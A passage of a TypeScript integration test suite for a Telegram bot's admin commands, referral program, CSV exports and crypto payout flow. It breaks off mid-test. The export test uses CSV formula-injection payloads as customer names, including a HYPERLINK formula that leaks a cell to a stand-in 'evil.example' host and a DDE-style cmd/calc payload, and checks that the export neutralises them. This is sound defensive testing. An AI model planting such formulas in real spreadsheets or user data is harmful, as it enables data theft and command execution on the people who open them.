/**
 * Admin commands and the referral program against the Telegram sandbox, with the real Temporal dev
 * server, PostgreSQL and a worker: each command changes what it says through its workflow, nobody
 * else can use them, exports parse back, payouts go through the payout workflow.
 */
import { randomUUID } from 'node:crypto';
import { and, desc, eq, inArray } from 'drizzle-orm';
import { Api } from 'grammy';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { post } from '../../activities/ledger';
import { heldPosting } from '../../domain/referral';
import {
  auditLog,
  inviteLinks,
  invoices,
  payoutRequests,
  plans,
  referrals,
  referrers,
  subscriptions,
  users,
} from '../../infrastructure/db/schema';
import type { SentMessage, UserInput } from '../../infrastructure/sandbox/telegram';
import { buttonsOf, conversation, textMatches, WAIT_MS } from '../../test/conversation';
import { eventually, startStack, type Stack } from '../../test/harness';
import { assertLedgerInvariant, balancesOf, fundReferrer } from '../../test/ledger';
import { readCsv } from '../../test/csv';
import { REFERRERS_HEADER, USERS_HEADER } from './exports';

const DAY_MS = 86_400_000;
const TRON = 'TNPeeaaFB7K9cmo4uQpcU32zGK8G1NYqeL';
const BSC = '0x52908400098527886E0F7030069857D2E4169EE7';
const ADMIN: UserInput = {
  id: 700_000_000 + Math.floor(Math.random() * 99_999_999),
  first_name: 'Admin',
  username: 'the_admin',
  language_code: 'en',
};

let stack: Stack;
let defaultPlan: { planId: string; channelIds: number[] };
let botUsername: string;

beforeAll(async () => {
  stack = await startStack({ ADMIN_IDS: `1,${ADMIN.id}`, PAYOUT_MINIMUM_MINOR: '500' });
  await stack.addUser(ADMIN.id);
  stack.sandbox.telegram.addUser(ADMIN, { startedBot: true });
  // The plan the commands fall back to: first of the active plans by sort order, ahead of other tests' plans.
  defaultPlan = await stack.createPlan({ title: 'Default', durationSeconds: 30 * 86_400 });
  await stack.runtime.db.update(plans).set({ sortOrder: -1_000_000_000 }).where(eq(plans.id, defaultPlan.planId));
  botUsername = (await new Api(stack.config.telegram.botToken, { apiRoot: stack.config.telegram.apiRoot }).getMe())
    .username;
});
afterAll(async () => {
  // Leave the catalog as other test files expect it.
  if (defaultPlan) await stack.runtime.db.update(plans).set({ active: false }).where(eq(plans.id, defaultPlan.planId));
  await stack?.stop();
});

const tg = () => stack.sandbox.telegram;
const db = () => stack.runtime.db;
const { say, press } = conversation(tg);
const adminSays = (text: string, pattern: RegExp) => say(ADMIN, text, textMatches(pattern));

async function customer(fields: Partial<typeof users.$inferInsert> = {}, language = 'en'): Promise<UserInput> {
  const id = stack.newUserId();
  const from: UserInput = {
    id,
    first_name: fields.firstName ?? `Tester${id}`,
    last_name: fields.lastName ?? undefined,
    username: fields.username ?? `tester${id}`,
    language_code: language,
  };
  await stack.addUser(id, {
    username: from.username,
    firstName: from.first_name,
    lastName: from.last_name ?? null,
    ...fields,
  });
  tg().addUser(from, { startedBot: true });
  return from;
}

const userRow = async (id: number) => (await db().select().from(users).where(eq(users.id, id)))[0];
const subscriptionRow = async (userId: number, planId: string) =>
  (
    await db()
      .select()
      .from(subscriptions)
      .where(and(eq(subscriptions.userId, userId), eq(subscriptions.planId, planId)))
  )[0];
const auditRows = (target: string) =>
  db()
    .select()
    .from(auditLog)
    .where(and(eq(auditLog.actorId, ADMIN.id), eq(auditLog.target, target)))
    .orderBy(desc(auditLog.id));
const payoutRow = async (payoutId: string) =>
  (await db().select().from(payoutRequests).where(eq(payoutRequests.id, payoutId)))[0];

function expectAbout(actual: Date | number | undefined, expectedMs: number, toleranceMs = 120_000) {
  const ms = actual instanceof Date ? actual.getTime() : actual;
  expect(ms).toBeDefined();
  expect(Math.abs(ms! - expectedMs)).toBeLessThan(toleranceMs);
}

describe('who may use the admin commands', () => {
  it('answers anyone else with the normal unknown-command reply and changes nothing', async () => {
    const stranger = await customer();
    const victim = await customer();
    for (const command of [
      `/activate ${victim.id} 30`,
      `/edit ${victim.id} remove`,
      `/edit ${victim.id} marktrial`,
      '/export',
      '/export_refree',
      `/refree_add ${stranger.id} 50`,
      `/refree_remove ${stranger.id}`,
      '/paid x y',
      '/admin',
    ]) {
      const name = command.split(' ')[0]!;
      const reply = await say(stranger, command, textMatches(/don't know the command/));
      expect(reply.text).toContain(`I don't know the command ${name}.`);
      expect(reply.text).toMatch(/What I can do/);
      expect(reply.method).toBe('sendMessage');
    }
    // The same reply as for a command that does not exist at all.
    const unknown = await say(stranger, '/frobnicate', textMatches(/don't know the command/));
    const activate = await say(stranger, '/activate', textMatches(/don't know the command/));
    expect(activate.text!.replace('/activate', '/X')).toBe(unknown.text!.replace('/frobnicate', '/X'));
    // Admin buttons are "out of date" for them.
    const queryId = tg().pressButton({
      from: stranger,
      message_id: unknown.message_id,
      data: 'payout:approve:tg1m1',
      force: true,
    });
    const answer = await eventually(
      'the button answered',
      () => (tg().callbackAnswer(queryId)?.answered ? tg().callbackAnswer(queryId) : undefined),
      WAIT_MS,
    );
    expect(answer?.text).toMatch(/out of date/);

    expect(await db().select().from(subscriptions).where(eq(subscriptions.userId, victim.id))).toEqual([]);
    expect((await userRow(victim.id))?.trialUsedAt).toBeNull();
    expect(await db().select().from(referrers).where(eq(referrers.userId, stranger.id))).toEqual([]);
    expect(await db().select().from(auditLog).where(eq(auditLog.actorId, stranger.id))).toEqual([]);
    expect(
      tg()
        .messagesTo(stranger.id)
        .some((m) => m.method === 'sendDocument'),
    ).toBe(false);
  });

  it('shows the admin their commands', async () => {
    const help = await adminSays('/admin', /Admin commands/);
    expect(help.text).toMatch(/\/activate <user_id> <days> \[plan_id\]/);
  });
});

describe('subscriptions, through the workflow', () => {
  it('/activate grants days on the default plan; the read model, the workflow and the user agree', async () => {
    const user = await customer();
    const reply = await adminSays(`/activate ${user.id} 30`, /granted/);
    expect(reply.text).toBe(`✅ 30 days of Default granted to user ${user.id}.`);
    const row = await eventually(
      'the subscription active',
      async () => {
        const r = await subscriptionRow(user.id, defaultPlan.planId);
        return r?.status === 'active' ? r : undefined;
      },
      WAIT_MS,
    );
    expectAbout(row.expiresAt, Date.now() + 30 * DAY_MS);
    const state = await stack.runtime.commands.subscriptionState(user.id, defaultPlan.planId);
    expect(state).toMatchObject({ status: 'active', trial: false });
    expect(state?.expiresAt).toBe(row.expiresAt.getTime());
    // The user gets their invite link from the workflow.
    const invite = await tg().waitForMessage(user.id, textMatches(/subscription is active/), WAIT_MS);
    expect(buttonsOf(invite).some((b) => 'url' in b)).toBe(true);

    // Granting again adds to the running period.
    await adminSays(`/activate ${user.id} 10`, /granted/);
    await eventually(
      'the period extended',
      async () =>
        ((await subscriptionRow(user.id, defaultPlan.planId))?.expiresAt.getTime() ?? 0) >
        row.expiresAt.getTime() + 9 * DAY_MS,
      WAIT_MS,
    );
    expectAbout((await subscriptionRow(user.id, defaultPlan.planId))!.expiresAt, row.expiresAt.getTime() + 10 * DAY_MS);

    const audits = await auditRows(String(user.id));
    expect(audits.map((a) => [a.action, a.actor, a.details])).toEqual([
      ['subscription.grant', 'admin', { args: `${user.id} 10`, planId: defaultPlan.planId, days: 10 }],
      ['subscription.grant', 'admin', { args: `${user.id} 30`, planId: defaultPlan.planId, days: 30 }],
    ]);
  });

  it('/activate on a named plan and /edit setdays set the period of that plan', async () => {
    const other = await stack.createPlan({ title: 'Other', durationSeconds: 7 * 86_400 });
    const user = await customer();
    await adminSays(`/activate ${user.id} 5 ${other.planId}`, /5 days of Other granted/);
    await eventually(
      'active on the named plan',
      async () => (await subscriptionRow(user.id, other.planId))?.status === 'active',
      WAIT_MS,
    );
    expect(await subscriptionRow(user.id, defaultPlan.planId)).toBeUndefined();

    const reply = await adminSays(`/edit ${user.id} setdays 2 ${other.planId}`, /now ends in/);
    expect(reply.text).toBe(`✅ The Other subscription of user ${user.id} now ends in 2 days.`);
    const row = await eventually(
      'the new expiry',
      async () => {
        const r = await subscriptionRow(user.id, other.planId);
        return r && Math.abs(r.expiresAt.getTime() - (Date.now() + 2 * DAY_MS)) < 120_000 ? r : undefined;
      },
      WAIT_MS,
    );
    expect(row.status).toBe('active');
    expect((await stack.runtime.commands.subscriptionState(user.id, other.planId))?.expiresAt).toBe(
      row.expiresAt.getTime(),
    );

    // Without a plan: the default plan (none yet, so setdays starts one).
    await adminSays(`/edit ${user.id} setdays 3`, /Default subscription of user .* now ends in 3 days/);
    const onDefault = await eventually(
      'set on the default plan',
      async () => {
        const r = await subscriptionRow(user.id, defaultPlan.planId);
        return r?.status === 'active' ? r : undefined;
      },
      WAIT_MS,
    );
    expectAbout(onDefault.expiresAt, Date.now() + 3 * DAY_MS);
    const [audit] = await auditRows(String(user.id));
    expect(audit).toMatchObject({ action: 'subscription.set_days', details: { planId: defaultPlan.planId, days: 3 } });
  });

  it('/edit remove revokes every running subscription and removes the member by ban then unban', async () => {
    const second = await stack.createPlan({ title: 'Second', durationSeconds: 7 * 86_400 });
    const user = await customer();
    await adminSays(`/activate ${user.id} 30`, /granted/);
    await adminSays(`/activate ${user.id} 30 ${second.planId}`, /granted/);
    for (const planId of [defaultPlan.planId, second.planId]) {
      await eventually(
        `active on ${planId}`,
        async () => (await subscriptionRow(user.id, planId))?.status === 'active',
        WAIT_MS,
      );
    }
    // In the channel through their personal link.
    const channelId = defaultPlan.channelIds[0]!;
    const link = await eventually(
      'the invite link',
      async () =>
        (
          await db()
            .select()
            .from(inviteLinks)
            .where(and(eq(inviteLinks.userId, user.id), eq(inviteLinks.channelId, channelId)))
        )[0],
      WAIT_MS,
    );
    tg().requestJoin({ from: user, chatId: channelId, inviteLink: link.link });
    await eventually('joined', () => tg().member(channelId, user.id) === 'member', WAIT_MS);

    const reply = await adminSays(`/edit ${user.id} remove`, /Ending the subscriptions/);
    expect(reply.text).toContain(defaultPlan.planId);
    expect(reply.text).toContain(second.planId);
    for (const planId of [defaultPlan.planId, second.planId]) {
      await eventually(
        `revoked on ${planId}`,
        async () => (await subscriptionRow(user.id, planId))?.status === 'revoked',
        WAIT_MS,
      );
      await eventually(
        'the workflow says revoked',
        async () => (await stack.runtime.commands.subscriptionState(user.id, planId))?.status !== 'active',
        WAIT_MS,
      );
    }
    await eventually('removed from the channel', () => tg().member(channelId, user.id) !== 'member', WAIT_MS);
    expect(
      tg()
        .calls('banChatMember')
        .some((c) => c.params.user_id === user.id && c.params.chat_id === channelId),
    ).toBe(true);
    expect(
      tg()
        .calls('unbanChatMember')
        .some((c) => c.params.user_id === user.id && c.params.chat_id === channelId),
    ).toBe(true);
    await tg().waitForMessage(user.id, textMatches(/ended by an admin/), WAIT_MS);

    // Nothing left to remove.
    await adminSays(`/edit ${user.id} remove`, /no running subscription/);
    const [audit] = await auditRows(String(user.id));
    expect(audit).toMatchObject({ action: 'subscription.revoke', details: { revoked: [] } });
  });

  it('/edit setdays 0 ends the subscription of that plan', async () => {
    const user = await customer();
    await adminSays(`/activate ${user.id} 10`, /granted/);
    await eventually(
      'active',
      async () => (await subscriptionRow(user.id, defaultPlan.planId))?.status === 'active',
      WAIT_MS,
    );
    await adminSays(`/edit ${user.id} setdays 0`, /Ending the subscriptions/);
    await eventually(
      'revoked',
      async () => (await subscriptionRow(user.id, defaultPlan.planId))?.status === 'revoked',
      WAIT_MS,
    );
  });

  it('/edit marktrial and resettrial set and clear the trial mark through the workflow', async () => {
    const user = await customer();
    expect((await userRow(user.id))?.trialUsedAt).toBeNull();
    await adminSays(`/edit ${user.id} marktrial`, /marked as used/);
    await eventually('trial marked', async () => (await userRow(user.id))?.trialUsedAt instanceof Date, WAIT_MS);
    // Repeating it keeps the first mark.
    const marked = (await userRow(user.id))!.trialUsedAt!;
    await adminSays(`/edit ${user.id} MarkTrial`, /marked as used/);
    await adminSays(`/edit ${user.id} resettrial`, /is reset/);
    await eventually('trial reset', async () => (await userRow(user.id))?.trialUsedAt === null, WAIT_MS);
    // Went through the user's subscription entity, which gave no access and so ends on its own.
    const history = await stack.runtime.temporal.client.workflow
      .getHandle(`subscription:${user.id}:${defaultPlan.planId}`)
      .fetchHistory();
    const signals = (history.events ?? []).flatMap((e) =>
      e.workflowExecutionSignaledEventAttributes?.signalName
        ? [e.workflowExecutionSignaledEventAttributes.signalName]
        : [],
    );
    expect(signals.filter((s) => s === 'markTrial' || s === 'resetTrial').length).toBeGreaterThanOrEqual(1);
    expect(await subscriptionRow(user.id, defaultPlan.planId)).toBeUndefined();
    expect(marked).toBeInstanceOf(Date);
    const actions = (await auditRows(String(user.id))).map((a) => a.action);
    expect(actions).toEqual(['trial.reset', 'trial.mark_used', 'trial.mark_used']);
  });

  it('answers every malformed argument with the usage line and audits the refusal', async () => {
    const user = await customer();
    const cases: Array<[string, RegExp]> = [
      ['/activate', /^Usage: \/activate <user_id> <days> \[plan_id\]/],
      [`/activate ${user.id}`, /^Usage: \/activate/],
      [`/activate abc 10`, /“abc” is not a Telegram user id[\s\S]*Usage: \/activate/],
      [`/activate -5 10`, /“-5” is not a Telegram user id[\s\S]*Usage: \/activate/],
      [
        `/activate ${user.id} 0`,
        /“0” is not a number of days: give a whole number from 1 to 3650[\s\S]*Usage: \/activate/,
      ],
      [`/activate ${user.id} 3651`, /“3651” is not a number of days[\s\S]*Usage/],
      [`/activate ${user.id} 1.5`, /“1.5” is not a number of days/],
      [`/activate ${user.id} 10 nosuchplan`, /There is no plan “nosuchplan”[\s\S]*Usage: \/activate/],
      [`/activate ${user.id} 10 ${defaultPlan.planId} extra`, /^Usage: \/activate/],
      ['/edit', /^Usage: \/edit <user_id> remove \| setdays/],
      [`/edit ${user.id}`, /^Usage: \/edit/],
      [`/edit ${user.id} frobnicate`, /^Usage: \/edit/],
      [`/edit ${user.id} setdays`, /^Usage: \/edit/],
      [`/edit ${user.id} setdays -1`, /“-1” is not a number of days: give a whole number from 0 to 3650/],
      [`/edit ${user.id} remove now`, /^Usage: \/edit/],
      ['/export now', /^Usage: \/export \(no arguments\)/],
      ['/refree_add', /^Usage: \/refree_add <user_id> <percent>/],
      [`/refree_add ${user.id} 0`, /“0” is not a commission[\s\S]*Usage: \/refree_add/],
      [`/refree_add ${user.id} 101`, /“101” is not a commission/],
      [`/refree_add ${user.id} ten`, /“ten” is not a commission/],
      ['/refree_remove', /^Usage: \/refree_remove <user_id>/],
      ['/paid', /^Usage: \/paid <payout_id> <transaction_hash>/],
      ['/paid onlyid', /^Usage: \/paid/],
    ];
    for (const [command, pattern] of cases) {
      const reply = await say(ADMIN, command, () => true);
      expect(reply.text, command).toMatch(pattern);
    }
    // State, not syntax: a clear message.
    const ghost = stack.newUserId();
    expect((await adminSays(`/activate ${ghost} 10`, /unknown/)).text).toBe(
      `⚠️ User ${ghost} is unknown to the bot: they have to start it first.`,
    );
    await adminSays(`/refree_remove ${user.id}`, /is not a referral partner/);

    expect(await db().select().from(subscriptions).where(eq(subscriptions.userId, user.id))).toEqual([]);
    const refusals = await auditRows(String(user.id));
    expect(refusals.length).toBeGreaterThanOrEqual(10);
    for (const row of refusals) expect(row.details).toHaveProperty('refused');
    expect(refusals.filter((r) => r.details.refused === 'admin-bad-days').map((r) => r.action)).toEqual([
      'subscription.edit',
      'subscription.grant',
      'subscription.grant',
      'subscription.grant',
    ]);
    expect(refusals.find((r) => r.details.refused === 'admin-bad-percent')).toMatchObject({
      action: 'referrer.add',
      actor: 'admin',
      actorId: ADMIN.id,
      details: { args: `${user.id} ten` },
    });
    expect((await auditRows(String(ghost)))[0]).toMatchObject({
      action: 'subscription.grant',
      details: { refused: 'admin-unknown-user' },
    });
  });
});

describe('exports', () => {
  /** A document the bot sent, read back as a person would: getFile, then its download URL, over HTTP. */
  const download = async (fileId: string): Promise<Buffer> => {
    const { botToken, apiRoot } = stack.config.telegram;
    const file = await new Api(botToken, { apiRoot }).getFile(fileId);
    expect(file.file_path).toMatch(/^documents\//);
    const response = await fetch(`${apiRoot}/file/bot${botToken}/${file.file_path}`);
    expect(response.status).toBe(200);
    return Buffer.from(await response.arrayBuffer());
  };
  const csvOf = async (message: SentMessage) => {
    expect(message.method).toBe('sendDocument');
    return readCsv(await download(message.document!.file_id));
  };

  it('/export opens as plain text: names starting with =, +, -, @, tab or CR get a leading quote', async () => {
    const tag = randomUUID().slice(0, 6);
    const hyperlink = '=HYPERLINK("http://evil.example/?leak="&A1,"Нажми")';
    const formulas = [
      await customer({ firstName: hyperlink, lastName: '-1+1', username: `@evil_${tag}` }),
      await customer({ firstName: '+7 (999) 123-45-67', lastName: '\tTab', username: `=cmd_${tag}` }),
      await customer({ firstName: '@SUM(1+1)*cmd|" /C calc"!A0', lastName: '\rCR', username: `-minus_${tag}` }),
      await customer({ firstName: '-5', lastName: 'Петров', username: `+plus_${tag}` }),
    ];
    const document = await say(ADMIN, '/export', (m) => m.method === 'sendDocument');
    expect(document.document).toMatchObject({ file_name: 'users.csv', mime_type: 'text/csv' });
    const bytes = await download(document.document!.file_id);
    // A UTF-8 byte order mark first (spreadsheet apps then read Cyrillic as UTF-8), the raw cells quoted.
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const raw = bytes.toString('utf8');
    expect(raw).toContain(`,'@evil_${tag},"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Нажми"")",'-1+1,`);
    expect(raw).toContain(`,'=cmd_${tag},'+7 (999) 123-45-67,'\tTab,`);
    expect(raw).toContain(`,'-minus_${tag},"'@SUM(1+1)*cmd|"" /C calc""!A0","'\rCR",`);
    expect(raw).toContain(`,'+plus_${tag},'-5,Петров,`);

    const rows = readCsv(bytes);
    const names = (user: UserInput) => rows.find((r) => r[0] === String(user.id))?.slice(1, 4);
    expect(formulas.map(names)).toEqual([
      [`'@evil_${tag}`, `'${hyperlink}`, "'-1+1"],
      [`'=cmd_${tag}`, "'+7 (999) 123-45-67", "'\tTab"],
      [`'-minus_${tag}`, `'@SUM(1+1)*cmd|" /C calc"!A0`, "'\rCR"],
      [`'+plus_${tag}`, "'-5", 'Петров'],
    ]);
    // Nowhere in the whole file does a cell start with what a spreadsheet would evaluate.
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('/export sends every user as CSV that parses back to the same values, quotes and line breaks included', async () => {
    const tricky = await customer({
      firstName: 'Smith, "Jr"',
      lastName: 'line one\nline two\r\nthree',
      username: `odd_${randomUUID().slice(0, 6)}`,
      language: 'ru',
    });
    const referrer = await customer();
    const referred = await customer({ referredBy: referrer.id });
    await adminSays(`/activate ${referred.id} 30`, /granted/);
    const sub = await eventually(
      'active',
      async () => {
        const r = await subscriptionRow(referred.id, defaultPlan.planId);
        return r?.status === 'active' ? r : undefined;
      },
      WAIT_MS,
    );
    await adminSays(`/edit ${tricky.id} marktrial`, /marked/);
    const trialUsedAt = await eventually(
      'trial marked',
      async () => (await userRow(tricky.id))?.trialUsedAt ?? undefined,
      WAIT_MS,
    );

    const document = await say(ADMIN, '/export', (m) => m.method === 'sendDocument');
    expect(document.document?.file_name).toBe('users.csv');
    expect(document.caption).toMatch(/Users \(\d+ rows\)/);
    const [header, ...rows] = await csvOf(document);
    expect(header).toEqual([...USERS_HEADER]);
    for (const row of rows) expect(row).toHaveLength(USERS_HEADER.length);
    const byId = (id: number) => rows.filter((r) => r[0] === String(id));

    const trickyRow = (await userRow(tricky.id))!;
    expect(byId(tricky.id)).toEqual([
      [
        String(tricky.id),
        trickyRow.username,
        'Smith, "Jr"',
        'line one\nline two\r\nthree',
        'ru',
        trickyRow.termsAcceptedAt!.toISOString(),
        trialUsedAt.toISOString(),
        trickyRow.referralCode,
        '',
        '',
        '',
        '',
      ],
    ]);
    expect(byId(referred.id)).toEqual([
      [
        String(referred.id),
        referred.username,
        referred.first_name,
        '',
        '',
        (await userRow(referred.id))!.termsAcceptedAt!.toISOString(),
        '',
        `r${referred.id}`,
        String(referrer.id),
        defaultPlan.planId,
        'active',
        sub.expiresAt.toISOString(),
      ],
    ]);
    expect(document.caption).toContain(`(${rows.length} rows)`);
    await tg().waitForMessage(ADMIN.id, textMatches(new RegExp(`Export sent: ${rows.length} rows`)), WAIT_MS);
    const [audit] = await db()
      .select()
      .from(auditLog)
      .where(and(eq(auditLog.actorId, ADMIN.id), eq(auditLog.action, 'export.users')))
      .orderBy(desc(auditLog.id));
    expect(audit).toMatchObject({ actor: 'admin', target: 'users', details: { rows: rows.length } });
  });

  it('/export of more rows than one cursor batch keeps every row', async () => {
    const tag = `bulk${randomUUID().slice(0, 6)}`;
    const base = 5_000_000_000_000 + Math.floor(Math.random() * 1_000_000) * 10_000;
    const many = Array.from({ length: 1200 }, (_, i) => ({
      id: base + i,
      firstName: `${tag}, #${i}`,
      referralCode: `${tag}-${i}`,
    }));
    await db().insert(users).values(many);
    try {
      const document = await say(ADMIN, '/export', (m) => m.method === 'sendDocument');
      const rows = (await csvOf(document)).filter((r) => r[2]?.startsWith(`${tag}, #`));
      expect(rows).toHaveLength(many.length);
      expect(rows.map((r) => r[7])).toEqual(many.map((u) => u.referralCode));
    } finally {
      await db()
        .delete(users)
        .where(
          inArray(
            users.id,
            many.map((u) => u.id),
          ),
        );
    }
  });

  it('/refree_add, /referral, /payout, approve and /paid, /export_refree: the partner statistics add up', async () => {
    const partner = await customer({ username: `partner_${randomUUID().slice(0, 6)}` });
    const added = await adminSays(`/refree_add ${partner.id} 12.5`, /referral partner/);
    expect(added.text).toContain(`https://t.me/${botUsername}?start=ref_r${partner.id}`);
    expect((await db().select().from(referrers).where(eq(referrers.userId, partner.id)))[0]).toMatchObject({
      commissionBps: 1250,
      active: true,
    });
    expect((await auditRows(String(partner.id)))[0]).toMatchObject({
      action: 'referrer.add',
      details: { commissionBps: 1250 },
    });

    // Two referred users, one of them paid; 1.50 held, 30.00 available.
    const payer = await customer({ referredBy: partner.id });
    const idle = await customer({ referredBy: partner.id });
    await db()
      .insert(referrals)
      .values([
        { referredId: payer.id, referrerId: partner.id },
        { referredId: idle.id, referrerId: partner.id },
      ]);
    const invoiceId = `${payer.id}-${defaultPlan.planId}-t`;
    await db().insert(invoices).values({
      id: invoiceId,
      userId: payer.id,
      purpose: 'subscription',
      planId: defaultPlan.planId,
      provider: 'cryptocloud',
      amountMinor: 1200n,
      currency: 'USD',
      status: 'paid',
      paidAt: new Date(),
    });
    await post(db(), heldPosting({ invoiceId, referrerId: partner.id, amountMinor: 150n, currency: 'USD' }));
    await fundReferrer(db(), partner.id, 3000n, randomUUID());

    const stats = await say(partner, '/referral', textMatches(/referral link/));
    expect(stats.text).toContain(`https://t.me/${botUsername}?start=ref_r${partner.id}`);
    expect(stats.text).toContain('People you referred: 2. Of them paid: 1.');
    expect(stats.text).toContain('12.5 %');
    expect(stats.text).toContain(
      'held 1.50 USD · available 30.00 USD · reserved for payouts 0.00 USD · paid out 0.00 USD',
    );

    // Payout: request, approve with the button, mark paid.
    const request = await say(partner, `/payout 10 trc20 ${TRON}`, textMatches(/Payout request .* received/));
    const payoutId = /Payout request (\S+) for 10\.00 USD/.exec(request.text!)![1]!;
    expect(payoutId).toMatch(new RegExp(`^tg${partner.id}m\\d+$`));
    const adminMessage = await tg().waitForMessage(
      ADMIN.id,
      textMatches(new RegExp(`Payout request ${payoutId}:`)),
      WAIT_MS,
    );
    const approved = await press(ADMIN, adminMessage, `payout:approve:${payoutId}`, textMatches(/approved/));
    expect(approved.text).toContain(`/paid ${payoutId}`);
    await eventually('approved', async () => (await payoutRow(payoutId))?.status === 'approved', WAIT_MS);
    await tg().waitForMessage(
      partner.id,
      textMatches(new RegExp(`Payout ${payoutId} for 10.00 USD was approved`)),
      WAIT_MS,
    );
    expect(
      buttonsOf(
        tg()
          .messagesTo(ADMIN.id)
          .find((m) => m.message_id === adminMessage.message_id)!,
      ),
    ).toEqual([]);

    const badHash = await adminSays(`/paid ${payoutId} 0x1234`, /not a transaction hash/);
    expect(badHash.text).toMatch(/Usage: \/paid/);
    const txHash = 'cd'.repeat(32);
    await adminSays(`/paid ${payoutId} ${txHash}`, /marked as paid/);
    await eventually('paid', async () => (await payoutRow(payoutId))?.status === 'paid', WAIT_MS);
    expect(await payoutRow(payoutId)).toMatchObject({ decidedBy: ADMIN.id, txHash });
    await tg().waitForMessage(partner.id, textMatches(new RegExp(`Transaction: ${txHash}`)), WAIT_MS);
    await adminSays(
      `/paid ${payoutId} ${txHash}`,
      new RegExp(`Payout ${payoutId} is paid \\(decided by ${ADMIN.id}\\): it cannot be marked as paid`),
    );
    // Decisions are audited by the payout workflow with the admin's id; refusals by the bot.
    const payoutAudit = await auditRows(payoutId);
    expect(payoutAudit.map((a) => a.action).sort()).toEqual(
      ['payout.approve', 'payout.markPaid', 'payout.markPaid', 'payout.markPaid'].sort(),
    );
    expect(
      payoutAudit
        .filter((a) => 'refused' in a.details)
        .map((a) => a.details.refused)
        .sort(),
    ).toEqual(['admin-payout-bad-hash', 'admin-payout-cannot-markPaid']);

    const after = await say(partner, '/referral', textMatches(/referral link/));
    expect(after.text).toContain(
      'held 1.50 USD · available 20.00 USD · reserved for payouts 0.00 USD · paid out 10.00 USD',
    );

    const document = await say(ADMIN, '/export_refree', (m) => m.method === 'sendDocument');
    expect(document.document?.file_name).toBe('referrers.csv');
    const [header, ...rows] = await csvOf(document);
    expect(header).toEqual([...REFERRERS_HEADER]);
    expect(rows.filter((r) => r[0] === String(partner.id))).toEqual([
      [String(partner.id), partner.username, '12.5', 'true', '2', '1', 'USD', '1.50', '20.00', '0.00', '10.00'],
    ]);

    // Removed: paused, not forgotten.
    await adminSays(`/refree_remove ${partner.id}`, /no longer a referral partner/);
    expect((await db().select().from(referrers).where(eq(referrers.userId, partner.id)))[0]?.active).toBe(false);
    const paused = await say(partner, '/referral', textMatches(/referral link/));
    expect(paused.text).toMatch(/partnership is paused/);
    const again = await say(ADMIN, '/export_refree', (m) => m.method === 'sendDocument');
    expect((await csvOf(again)).find((r) => r[0] === String(partner.id))?.[3]).toBe('false');
    await assertLedgerInvariant(db());
  });
});

describe('/referral and /payout for users', () => {
  it('shows a non-partner their link and stats, and refuses them a payout', async () => {
    const user = await customer();
    const referred = await customer({ referredBy: user.id });
    await db().insert(referrals).values({ referredId: referred.id, referrerId: user.id });
    const stats = await say(user, '/referral', textMatches(/referral link/));
    expect(stats.text).toContain(`https://t.me/${botUsername}?start=ref_r${user.id}`);
    expect(stats.text).toContain('People you referred: 1. Of them paid: 0.');
    expect(stats.text).toMatch(/not a referral partner/);
    await say(user, `/payout 10 TRC20 ${TRON}`, textMatches(/Only referral partners can request payouts/));
  });

  it('validates the amount, network, wallet, minimum and balance before anything starts', async () => {
    const partner = await customer();
    await db().insert(referrers).values({ userId: partner.id, commissionBps: 1000 });
    await fundReferrer(db(), partner.id, 2000n, randomUUID());
    const usage = await say(partner, '/payout', textMatches(/Usage: \/payout/));
    expect(usage.text).toContain('Minimum: 5.00 USD. Available: 20.00 USD.');
    const cases: Array<[string, RegExp]> = [
      ['/payout 10', /^Usage: \/payout <amount> <network> <wallet>/],
      [`/payout ten TRC20 ${TRON}`, /not an amount[\s\S]*Usage/],
      [`/payout 0 TRC20 ${TRON}`, /not an amount/],
      [`/payout 1.234 TRC20 ${TRON}`, /not an amount/],
      [`/payout 10 DOGE ${TRON}`, /Unknown network\. Choose one of TRC20, BEP20, ERC20[\s\S]*Usage/],
      [`/payout 10 TRC20 ${BSC}`, /not a TRC20 \(TRON\) address/],
      [`/payout 10 BEP20 ${TRON}`, /not a BEP20 address: it is 0x followed by 40/],
      [`/payout 4.99 TRC20 ${TRON}`, /minimum payout is 5\.00 USD/],
      [`/payout 20.01 TRC20 ${TRON}`, /You asked for 20\.01 USD, but only 20\.00 USD is available/],
    ];
    for (const [command, pattern] of cases) {
      const reply = await say(partner, command, () => true);
      expect(reply.text, command).toMatch(pattern);
    }
    expect(await db().select().from(payoutRequests).where(eq(payoutRequests.requesterId, partner.id))).toEqual([]);
    expect(await balancesOf(db(), partner.id)).toEqual({ held: 0n, available: 2000n, reserved: 0n });

    // The whole balance, in BEP20 with a decimal comma; rejected by the button with the default reason.
    const request = await say(partner, `/payout 20,00 BSC ${BSC}`, textMatches(/Payout request .* received/));
    expect(request.text).toContain(`to ${BSC} (BEP20)`);
    const payoutId = /Payout request (\S+) for 20\.00 USD/.exec(request.text!)![1]!;
    expect(await balancesOf(db(), partner.id)).toEqual({ held: 0n, available: 0n, reserved: 2000n });
    await say(partner, `/payout 5 TRC20 ${TRON}`, textMatches(/only 0\.00 USD is available/));

    const adminMessage = await tg().waitForMessage(
      ADMIN.id,
      textMatches(new RegExp(`Payout request ${payoutId}:`)),
      WAIT_MS,
    );
    const rejected = await press(ADMIN, adminMessage, `payout:reject:${payoutId}`, textMatches(/rejected/));
    expect(rejected.text).toBe(
      `✖️ Payout ${payoutId} rejected (declined by an admin). The amount is back in the partner's available balance.`,
    );
    await eventually('rejected', async () => (await payoutRow(payoutId))?.status === 'rejected', WAIT_MS);
    expect(await payoutRow(payoutId)).toMatchObject({ decidedBy: ADMIN.id, reason: 'declined by an admin' });
    await tg().waitForMessage(partner.id, textMatches(/rejected: declined by an admin\. The amount is back/), WAIT_MS);
    expect(await balancesOf(db(), partner.id)).toEqual({ held: 0n, available: 2000n, reserved: 0n });
    // A decided payout: the other buttons and commands say why not.
    const queryId = tg().pressButton({
      from: ADMIN,
      message_id: adminMessage.message_id,
      data: `payout:approve:${payoutId}`,
      force: true,
    });
    const answer = await eventually(
      'the button answered',
      () => (tg().callbackAnswer(queryId)?.answered ? tg().callbackAnswer(queryId) : undefined),
      WAIT_MS,
    );
    expect(answer?.text).toBe(`⚠️ Payout ${payoutId} is rejected (decided by ${ADMIN.id}): it cannot be approved.`);
    await adminSays('/approve nosuchpayout', /There is no payout “nosuchpayout”/);

    // /reject with a reason.
    const second = await say(partner, `/payout 6 TRC20 ${TRON}`, textMatches(/Payout request .* received/));
